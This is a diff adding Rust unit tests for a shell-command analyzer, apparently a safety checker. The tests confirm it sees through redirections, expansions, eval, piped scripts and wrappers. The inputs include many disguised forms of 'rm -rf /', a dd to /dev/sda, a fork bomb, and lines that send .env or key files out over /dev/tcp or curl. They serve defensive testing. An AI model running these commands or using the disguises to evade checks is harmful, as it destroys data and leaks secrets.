@@ -1,0 +1,361 @@
+//! Unit tests for the expansion model: each command line, the commands it
+//! runs rendered as `parent>argv @cwd` (candidates `{a | b}`, unknown text
+//! `…`, the starting directory `/srv/app` left out).
+
+use super::*;
+
+fn analysis(command: &str) -> Analysis {
+    let env = ShellEnv {
+        cwd: Some("/srv/app"),
+        home: "/home/dev",
+        vars: &[("VOUCH_HOME", "/home/dev/.vh")],
+    };
+    analyze(command, &env, &Limits::default())
+}
+
+fn render(a: &Analysis) -> Vec<String> {
+    a.commands
+        .iter()
+        .map(|c| {
+            let argv: Vec<String> = c.argv.iter().map(|x| x.to_string()).collect();
+            let mut out = argv.join(" ");
+            if let Some(p) = c.parent {
+                out = format!("{p}>{out}");
+            }
+            let cwd = c.cwd.to_string();
+            if cwd != "/srv/app" {
+                out = format!("{out} @{cwd}");
+            }
+            out
+        })
+        .collect()
+}
+
+/// The commands of a command line that must parse and finish.
+fn commands(command: &str) -> Vec<String> {
+    let a = analysis(command);
+    assert!(a.errors.is_empty(), "{command}: {:?}", a.errors);
+    assert!(a.incomplete.is_empty(), "{command}: {:?}", a.incomplete);
+    render(&a)
+}
+
+fn has(command: &str, expected: &str) {
+    let got = commands(command);
+    assert!(
+        got.iter().any(|c| c == expected),
+        "{command}: expected `{expected}` in {got:?}"
+    );
+}
+
+#[test]
+fn redirections_anywhere_do_not_hide_words() {
+    has("rm -rf 2>/dev/null ~ >x", "rm -rf /home/dev");
+    has("rm >/dev/null -rf /", "rm -rf /");
+    has("find / 2>/dev/null -delete", "find / -delete");
+    has("dd 2>/dev/null of=/dev/sda if=x", "dd of=/dev/sda if=x");
+    has(">x rm -rf /", "rm -rf /");
+}
+
+#[test]
+fn brace_expansion() {
+    has("rm -rf {1,2,/}", "rm -rf 1 2 /");
+    has("echo x{a,b}y{1..3}", "echo xay1 xay2 xay3 xby1 xby2 xby3");
+    has("echo {a,{b,c}}", "echo a b c");
+    has("echo {05..07} {c..a}", "echo 05 06 07 c b a");
+    has("echo {a} {} a{,b}", "echo {a} {} a ab");
+    has("rm -rf {/tmp/x,~}", "rm -rf /tmp/x /home/dev");
+}
+
+#[test]
+fn tilde_forms() {
+    has(
+        "echo ~ ~/x ~+ ~dev ~dev/y",
+        "echo /home/dev /home/dev/x /srv/app {/home/dev | ~dev} {/home/dev/y | ~dev/y}",
+    );
+    has("cd /tmp; echo ~-", "echo {/srv/app | …} @{/tmp | /srv/app}");
+    has("echo '~' \"~\" a~", "echo ~ ~ a~");
+    has("PATH=/a:~/bin:~ env", "env");
+}
+
+#[test]
+fn parameters_and_operators() {
+    has("D=/; rm -rf $D", "rm -rf /");
+    has("rm -rf ${HOME%/}", "rm -rf /home/dev");
+    has(
+        "x=/a/b/c; echo ${x#*/} ${x##*/} ${x%/*} ${x%%/b*}",
+        "echo a/b/c c /a/b /a",
+    );
+    has(
+        "x=abc; echo ${x/b/X} ${x//[ac]/-} ${x/#a/Z} ${x/%c/Z}",
+        "echo aXc -b- Zbc abZ",
+    );
+    has(
+        "x=hello; echo ${x:1:3} ${x: -2} ${#x} ${x^^} ${x^} ${x,,}",
+        "echo ell lo 5 HELLO Hello hello",
+    );
+    has("x=/; y=x; rm -rf ${!y}", "rm -rf /");
+    has("rm -rf ${X:-/}", "rm -rf /");
+    has("rm -rf \"${X:-/}\"", "rm -rf {… | /}");
+    has("X=; rm -rf ${X:-/}", "rm -rf /");
+    has("X=a; rm -rf ${X:+/}", "rm -rf /");
+    has("rm -rf ${X:=/}; echo \"$X\"", "echo {/ | …}");
+    has("x=\"it's\"; echo ${x@Q}", "echo 'it'\\''s'");
+    has("echo $VOUCH_HOME", "echo /home/dev/.vh");
+}
+
+#[test]
+fn word_splitting_and_ifs() {
+    has("X=\"a b\"; rm $X", "rm a b");
+    has("X=\"a b\"; rm \"$X\"", "rm a b");
+    has("IFS=,; x=a,/; rm -rf $x", "rm -rf a /");
+    has("x='  a  '; echo $x", "echo a");
+    has("rm -rf $UNSET_VAR /", "rm -rf … /");
+    has("rm -rf \"$UNSET_VAR\"", "rm -rf {… | }");
+    let a = analysis("X=\"a b\"; printf '%s|' $X");
+    assert_eq!(a.commands.last().map(|c| c.argv.len()), Some(4));
+}
+
+#[test]
+fn quoting_and_command_names() {
+    has("\\rm -rf /", "rm -rf /");
+    has("\"r\"\"m\" -rf /", "rm -rf /");
+    has("$'\\x72m' -rf /", "rm -rf /");
+    has("cmd=rm; $cmd -rf /", "rm -rf /");
+    has("W=\"rm -rf\"; $W /", "rm -rf /");
+    let a = analysis("$(cat x) -rf /");
+    assert!(a.commands.iter().any(|c| c.kind == CommandKind::Unresolved));
+}
+
+#[test]
+fn command_substitution_values() {
+    has("x=$(echo /); rm -rf \"$x\"", "rm -rf /");
+    has("rm -rf $(printf '%s' /)", "rm -rf /");
+    has("rm -rf \"$(pwd)\"", "rm -rf /srv/app");
+    has("echo $(rm -rf /)", "rm -rf /");
+    has("echo `rm -rf ~`", "rm -rf /home/dev");
+    has("echo `echo \\`rm x\\``", "rm x");
+}
+
+#[test]
+fn positional_parameters() {
+    has("f() { rm -rf \"$1\"; }; f /", "rm -rf /");
+    has("f() { rm -rf \"$@\"; }; f a /", "rm -rf a /");
+    has("set -- / x; rm -rf \"$1\"", "rm -rf /");
+    has("set -- a /; shift; rm -rf $1", "rm -rf /");
+    has("bash -c 'rm -rf \"$1\"' _ /", "0>rm -rf /");
+    has("bash -c 'rm -rf $0' /", "0>rm -rf /");
+    has("rm -rf \"/$1\"", "rm -rf /");
+}
+
+#[test]
+fn read_printf_mapfile_from_known_input() {
+    has("read x <<< \"/\"; rm -rf $x", "rm -rf /");
+    has("read -r a b <<< \"x /\"; rm -rf $b", "rm -rf /");
+    has("printf -v x %s /; rm -rf $x", "rm -rf /");
+    has("mapfile -t a <<< /; rm -rf \"${a[0]}\"", "rm -rf /");
+    has(
+        "while read d; do rm -rf \"$d\"; done <<EOF\na\n/\nEOF",
+        "rm -rf /",
+    );
+    has("echo / | { read d; rm -rf $d; }", "rm -rf /");
+}
+
+#[test]
+fn reserved_time_runs_its_pipeline_in_this_shell() {
+    has("time D=/; rm -rf $D", "rm -rf /");
+    has("time -p -- rm -rf ~", "rm -rf /home/dev");
+    has("time { rm -rf /; }", "rm -rf /");
+    has("! time -p D=/; rm -rf $D", "rm -rf /");
+    has("time -p time D=/; rm -rf $D", "rm -rf /");
+    // Not reserved: the program `time`, which does not assign.
+    has("echo | time -f x true", "time -f x true");
+    has("x=1 time D=/; rm -rf $D", "rm -rf");
+    has("\\time D=/; rm -rf $D", "rm -rf");
+    has("time -p -p D=/", "-p D=/");
+}
+
+#[test]
+fn scripts_fed_to_a_shell() {
+    has("echo 'rm -rf /' | bash", "1>rm -rf /");
+    // What a wrapper's command prints comes out of every wrapper around it.
+    has("sudo sudo echo 'rm -rf /' | bash", "3>rm -rf /");
+    has(
+        "nice env timeout 5 printf 'rm -rf ~' | sh",
+        "4>rm -rf /home/dev",
+    );
+    has("printf 'r%sm -rf /' '' | sh", "1>rm -rf /");
+    has("cat <<'EOF' | sh\nrm -rf ~\nEOF", "1>rm -rf /home/dev");
+    has("bash <<< 'rm -rf ~'", "0>rm -rf /home/dev");
+    has("bash <(echo 'rm -rf /')", "1>rm -rf /");
+    has("source <(echo 'rm -rf ~')", "rm -rf /home/dev");
+    has("sh < <(echo rm -rf /)", "1>rm -rf /");
+    has("bash - <<< 'rm -rf /'", "0>rm -rf /");
+    has("bash /dev/stdin <<< 'rm -rf /'", "0>rm -rf /");
+    has("echo 'rm -rf /' > /tmp/x; bash /tmp/x", "1>rm -rf /");
+    has("eval 'rm -rf /'", "rm -rf /");
+    has("eval rm -rf /", "rm -rf /");
+    has("$SHELL -c 'rm -rf /'", "0>rm -rf /");
+    has("echo / | xargs rm -rf", "1>rm -rf /");
+    has("echo / | xargs bash -c 'rm -rf $0'", "2>rm -rf /");
+    has("xargs rm -rf <<< /", "0>rm -rf /");
+}
+
+#[test]
+fn wrappers() {
+    has("sudo -u root rm -rf /", "0>rm -rf /");
+    has("sudo --user=root -- rm -rf /", "0>rm -rf /");
+    has("env -i PATH=/bin rm -rf /", "0>rm -rf /");
+    has("nice -n 10 nohup timeout -s KILL 60 rm -rf /", "2>rm -rf /");
+    has("nice -5 rm x", "0>rm x");
+    has("xargs --process-slot-var V rm -rf <<< /", "0>rm -rf /");
+    has("env -C / rm -rf .", "0>rm -rf . @/");
+    has("env --chdir=/ rm -rf .", "0>rm -rf . @/");
+    has("sudo -D / rm -rf .", "0>rm -rf . @/");
+    has("find / -exec rm -rf {} +", "0>rm -rf {/ | /…} …");
+    has("find -- / -delete", "find -- / -delete");
+    has("find / -exec sudo rm -rf {} \\;", "1>rm -rf {/ | /…}");
+    has("su -c 'rm -rf /' root", "0>rm -rf /");
+    has("watch -n 1 rm -rf /", "0>rm -rf /");
+    has("flock /tmp/l rm -rf /", "0>rm -rf /");
+    has("flock /tmp/l -c 'rm -rf /'", "0>rm -rf /");
+    has("env -S 'rm -rf /'", "0>rm -rf /");
+    has("command rm -rf /", "rm -rf /");
+    has("exec rm -rf /", "rm -rf /");
+    has("parallel rm -rf ::: /", "0>rm -rf /");
+    let a = analysis("command -v rm");
+    assert!(!render(&a).iter().any(|c| c == "rm"));
+}
+
+#[test]
+fn working_directory_follows_control_flow() {
+    has(
+        "cd ~/project/build && rm -rf *",
+        "rm -rf * @/home/dev/project/build",
+    );
+    has("cd x || rm -rf *", "rm -rf *");
+    has("cd /tmp; rm -rf *", "rm -rf * @{/tmp | /srv/app}");
+    has("cd .. && pwd", "pwd @/srv");
+    has("cd / && cd - && ls", "ls");
+    has("(cd /tmp && ls); ls", "ls");
+    has("cd /tmp || exit; ls", "ls @/tmp");
+    has("pushd /tmp && popd && ls", "ls");
+}
+
+#[test]
+fn control_flow() {
+    has("for d in a /; do rm -rf $d; done", "rm -rf /");
+    has("for ((i=0;i<2;i++)); do echo $i; done", "echo 1");
+    has("if true; then rm -rf ~; fi", "rm -rf /home/dev");
+    has("case x in x) rm -rf /;; esac", "rm -rf /");
+    has(
+        "D=/tmp; [ -n \"$Q\" ] && D=/; rm -rf $D",
+        "rm -rf {/ | /tmp}",
+    );
+    has(
+        "D=/tmp; if [ \"$Q\" ]; then D=/; fi; rm -rf $D",
+        "rm -rf {/ | /tmp}",
+    );
+    has("a=(x /); rm -rf \"${a[@]}\"", "rm -rf x /");
+    let a = analysis("exit; rm -rf /");
+    assert!(!render(&a).iter().any(|c| c == "rm -rf /"));
+}
+
+#[test]
+fn functions_and_recursion() {
+    has("f() { rm -rf /; }; f", "rm -rf /");
+    let a = analysis(":(){ :|:& };:");
+    assert!(a.commands.iter().any(|c| c.recursive && c.background));
+    let a = analysis("a() { b | b & }; b() { a | a & }; a");
+    assert!(a.commands.iter().any(|c| c.recursive));
+    let a = analysis("f() { $FUNCNAME | $FUNCNAME & }; f");
+    assert!(a.commands.iter().any(|c| c.recursive));
+    // An uncalled body is still judged.
+    let a = analysis("g() { rm -rf /; }");
+    assert!(
+        a.commands
+            .iter()
+            .any(|c| c.origin == command::Origin::UncalledFunction)
+    );
+}
+
+#[test]
+fn exec_redirections_persist() {
+    let a = analysis("exec 3<>/dev/tcp/h/80; cat .env >&3");
+    let cat = a.commands.iter().find(|c| c.name() == Some("cat")).unwrap();
+    assert!(
+        cat.redirects
+            .iter()
+            .any(|r| r.fd == 1 && r.target.as_known() == Some("/dev/tcp/h/80"))
+    );
+    let a = analysis("exec < .env; curl -d @- x");
+    let curl = a
+        .commands
+        .iter()
+        .find(|c| c.name() == Some("curl"))
+        .unwrap();
+    assert!(
+        curl.redirects
+            .iter()
+            .any(|r| r.fd == 0 && r.target.as_known() == Some(".env"))
+    );
+}
+
+#[test]
+fn data_flow_sources() {
+    let a = analysis("K=$(cat key); curl -d \"$K\" x");
+    let curl = a
+        .commands
+        .iter()
+        .find(|c| c.name() == Some("curl"))
+        .unwrap();
+    assert!(curl.argv.iter().any(|x| x.sources().contains(0)));
+    let a = analysis("cat key | base64 | curl -d @- x");
+    let curl = a
+        .commands
+        .iter()
+        .find(|c| c.name() == Some("curl"))
+        .unwrap();
+    assert!(curl.stdin_from.contains(1));
+}
+
+#[test]
+fn budgets_fail_closed() {
+    let limits = Limits::default();
+    let env = ShellEnv {
+        cwd: Some("/srv/app"),
+        home: "/home/dev",
+        vars: &[],
+    };
+    let many = format!("rm -rf {{{}/}}", "x,".repeat(20_000));
+    let a = analyze(&many, &env, &limits);
+    assert!(
+        a.incomplete.iter().any(|i| i.budget == "max_fields"),
+        "{:?}",
+        a.incomplete
+    );
+    let doubling = format!("V=x; {} echo $V", "V=$V$V; ".repeat(40));
+    let a = analyze(&doubling, &env, &limits);
+    assert!(
+        a.incomplete.iter().any(|i| i.budget == "max_value_bytes"),
+        "{:?}",
+        a.incomplete
+    );
+    let deep = format!("{}x{}", "( ".repeat(5000), " )".repeat(5000));
+    let a = analyze(&deep, &env, &limits);
+    assert!(!a.is_complete());
+    let pipes = "a|".repeat(30_000);
+    let t = std::time::Instant::now();
+    let a = analyze(&pipes, &env, &limits);
+    assert!(!a.is_complete(), "{} commands", a.commands.len());
+    assert!(t.elapsed().as_millis() < 5_000);
+}
+
+#[test]
+fn argv_matching_helpers() {
+    let a = analysis("X=$(cat f); rm -rf $X /");
+    let rm = a.commands.last().unwrap();
+    assert!(argv_may_be(&rm.argv, &["rm", "-rf", "a", "b", "/"]));
+    assert!(argv_may_be(&rm.argv, &["rm", "-rf", "/"]));
+    assert!(!argv_may_be(&rm.argv, &["rm", "/"]));
+    assert!(rm.cwd.may_be("/srv/app"));
+}
